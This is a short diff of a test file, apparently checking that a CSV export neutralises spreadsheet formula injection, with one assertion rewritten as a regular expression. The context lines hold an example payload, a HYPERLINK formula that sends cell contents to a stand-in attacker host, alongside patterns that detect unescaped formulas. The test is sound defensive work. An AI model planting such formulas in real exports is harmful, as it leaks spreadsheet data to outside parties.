@@ -107,7 +107,7 @@ describe("holds under abuse", () => {
       const session = await signIn(t.client, accounts.reporterCtk);
       const csv = await (await download("/exports/ApiToken.csv", session)).text();
       expect(csv).toContain(`"'=HYPERLINK(""http://attacker.example/?x=""&A1,""Bấm vào đây"")"`);
-      expect(csv).toContain(",'-2+3,");
+      expect(csv).toMatch(/(^|,)'-2\+3,/m);
       expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
 
       // The lead agency's name in the target table, written by an administrator.
